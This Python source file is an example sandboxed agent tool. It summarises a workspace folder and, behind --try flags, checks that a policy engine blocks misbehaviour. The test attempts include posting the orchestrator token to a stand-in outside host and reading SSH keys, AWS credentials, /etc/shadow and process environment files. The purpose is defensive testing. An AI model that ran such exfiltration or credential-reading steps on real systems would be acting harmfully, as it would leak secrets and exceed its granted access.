"""Example connector in Python: a tool an AI agent calls to look at a code workspace.

The twin of the Rust agent-tool (guests/connectors/agent-tool), built with componentize-py
against warden's ``connector`` world and the Python SDK (sdk/python). It summarises the
read-only folder ``/workspace`` (files, lines, words, the most frequent words), prints the
summary, and returns it to the agent's orchestrator with a POST to ``$RESULTS_URL`` that
carries the brokered secret ``orchestrator``: warden adds the token, the tool never sees it.
Its manifest is ``examples/agent-tool-py/agent-tool-py.warden.toml``.

The ``--try-…`` flags attempt what an agent talked into misbehaving would, print
``refused: …`` for each refusal or ``ALLOWED: …`` when one got through (exit code 2, through
``wasi:cli/exit.exit-with-code``; the Rust twin's 2 arrives as 1, see docs/guests.md):

- ``--try-write``: change, create and delete files in ``/workspace``;
- ``--try-undeclared-http``: another path on the orchestrator, an outside host, and the
  orchestrator's token sent to the outside host;
- ``--try-credentials``: read cloud, SSH and system credentials, and reveal the token.
"""

import json
import os
import sys
import traceback

from componentize_py_types import Err
from wit_world import exports
from wit_world.imports import exit as wasi_exit

from warden_sdk import HttpError, WardenError, http, secrets

WORKSPACE = "/workspace"
#: The secret the results are delivered with (the manifest's [secrets.orchestrator]).
SECRET = "orchestrator"
#: How many of the most frequent words the summary lists.
TOP_WORDS = 5
#: Words shorter than this are left out of the frequencies: they are mostly "the", "and", …
MIN_WORD_LEN = 4
TRY_FLAGS = ("--try-write", "--try-undeclared-http", "--try-credentials")


class Summary:
    def __init__(self):
        self.files = 0
        self.binary = 0
        self.lines = 0
        self.words = 0
        self.frequencies = {}

    def add_text(self, text):
        self.files += 1
        # Lines as the Rust twin counts them: split at "\n", a last line without one counts.
        if text:
            self.lines += text.count("\n") + (0 if text.endswith("\n") else 1)
        word = []
        for c in text + " ":
            if c.isalnum() or c == "_":
                word.append(c)
            elif word:
                self._word("".join(word))
                word = []

    def _word(self, w):
        self.words += 1
        if len(w) >= MIN_WORD_LEN and any(c.isalpha() for c in w):
            key = w.lower()
            self.frequencies[key] = self.frequencies.get(key, 0) + 1

    def top(self):
        """The most frequent words, most frequent first, ties in alphabetical order."""
        words = sorted(self.frequencies.items(), key=lambda kv: (-kv[1], kv[0]))
        return words[:TOP_WORDS]

    def render(self):
        top = ", ".join(f"{w} ({n})" for w, n in self.top())
        return (
            f"workspace {WORKSPACE}: {self.files + self.binary} files ({self.files} text, "
            f"{self.binary} binary), {self.lines} lines, {self.words} words\n"
            f"most frequent: {top}\n"
        )


def walk(folder):
    """Every file under ``folder``, sorted."""
    out = []
    for entry in sorted(os.scandir(folder), key=lambda e: e.name):
        if entry.is_dir(follow_symlinks=False):
            out.extend(walk(entry.path))
        else:
            out.append(entry.path)
    return out


def summarise():
    summary = Summary()
    for path in walk(WORKSPACE):
        with open(path, "rb") as f:
            data = f.read()
        try:
            summary.add_text(data.decode("utf-8"))
        except UnicodeDecodeError:
            summary.binary += 1
    return summary


class Tries:
    """What the ``--try-…`` flags found."""

    def __init__(self):
        self.allowed = 0

    def expect_refused(self, what, attempt):
        """Runs ``attempt``: a failure is the expected refusal, a success a thing let through.
        An HTTP failure other than a refusal happened after warden let the request out, so
        it counts as let through too."""
        try:
            attempt()
        except HttpError as e:
            self.let_through(what, f"got past the policy, then: {e}")
        except (WardenError, OSError) as e:
            print(f"refused: {what}: {describe(e)}")
        else:
            self.let_through(what, "it succeeded")

    def let_through(self, what, detail):
        print(f"ALLOWED: {what}: {detail}")
        self.allowed += 1


def describe(e):
    if isinstance(e, OSError):
        return f"{e.strerror or type(e).__name__} ({type(e).__name__})"
    return str(e)


def write_file(path, text):
    with open(path, "w") as f:
        f.write(text)


def read_file(path):
    with open(path, "rb") as f:
        return f.read()


def try_write(tries):
    tries.expect_refused(
        "create /workspace/NOTES.md", lambda: write_file("/workspace/NOTES.md", "agent was here\n")
    )
    files = walk(WORKSPACE)
    if files:
        first = files[0]
        tries.expect_refused(
            f"overwrite {first}", lambda: write_file(first, "overwritten by the agent\n")
        )
        tries.expect_refused(f"delete {first}", lambda: os.remove(first))
    tries.expect_refused(
        "create a folder in /workspace", lambda: os.makedirs("/workspace/.agent")
    )


def origin(url):
    """``scheme://authority`` of a URL."""
    after = url.find("://")
    if after < 0:
        return None
    end = url.find("/", after + 3)
    return url if end < 0 else url[:end]


def try_undeclared_http(tries, results_url):
    # The orchestrator's host and port with another path: the rule is a path prefix.
    base = origin(results_url)
    if base:
        admin = f"{base}/admin/users"
        tries.expect_refused(f"GET {admin}", lambda: http.get(admin))
    outside = "https://llm-proxy.example/v1/upload"
    tries.expect_refused(
        f"POST {outside}", lambda: http.post(outside, json='{"workspace":"…"}')
    )
    # The token, named on a request outside its binding: refused as an exfiltration attempt.
    tries.expect_refused(
        f"POST {outside} with the {SECRET} token",
        lambda: http.post(outside, json='{"workspace":"…"}', secret=SECRET),
    )


def try_credentials(tries):
    paths = [
        "/root/.aws/credentials",
        "/root/.ssh/id_rsa",
        "/etc/shadow",
        "/etc/passwd",
        "/workspace/../etc/passwd",
        "/proc/self/environ",
    ]
    # `~` is wherever HOME says, if the manifest passes one on at all.
    home = os.environ.get("HOME")
    if home:
        paths.insert(0, f"{home}/.aws/credentials")
    for path in paths:
        tries.expect_refused(f"read {path}", lambda path=path: read_file(path))
    tries.expect_refused(
        f"reveal the {SECRET} token", lambda: secrets.open(SECRET).reveal()
    )


def main(args):
    for arg in args:
        if arg not in TRY_FLAGS:
            print(f"agent-tool-py: unknown argument {arg!r}", file=sys.stderr)
            return 1
    results_url = os.environ.get("RESULTS_URL")
    if not results_url:
        print(
            "agent-tool-py: RESULTS_URL is not set: the manifest's [env] names the orchestrator",
            file=sys.stderr,
        )
        return 1
    try:
        summary = summarise()
    except OSError as e:
        print(f"agent-tool-py: {e}", file=sys.stderr)
        return 1
    text = summary.render()
    print(text, end="")
    result = json.dumps({"tool": "summarise-workspace", "summary": text})
    try:
        answer = http.post(results_url, json=result, secret=SECRET)
    except WardenError as e:
        print(f"agent-tool-py: {e}", file=sys.stderr)
        return 1
    print(f"result delivered: {answer.status}")

    tries = Tries()
    for flag in args:
        if flag == "--try-write":
            try_write(tries)
        elif flag == "--try-undeclared-http":
            try_undeclared_http(tries, results_url)
        else:
            try_credentials(tries)
    if tries.allowed:
        print(f"agent-tool-py: {tries.allowed} refused thing(s) got through", file=sys.stderr)
        return 2
    return 0


class Run(exports.Run):
    """The ``wasi:cli/run`` export: the component's entry point."""

    def run(self) -> None:
        try:
            code = main(sys.argv[1:])
        except Exception:  # noqa: BLE001 (an uncaught exception would trap the component)
            traceback.print_exc()
            code = 1
        sys.stdout.flush()
        sys.stderr.flush()
        if code > 1:
            # `exit-with-code` (WASI 0.2.12) passes the code on; run's `err` would make it 1.
            wasi_exit.exit_with_code(code)
        if code:
            raise Err(None)
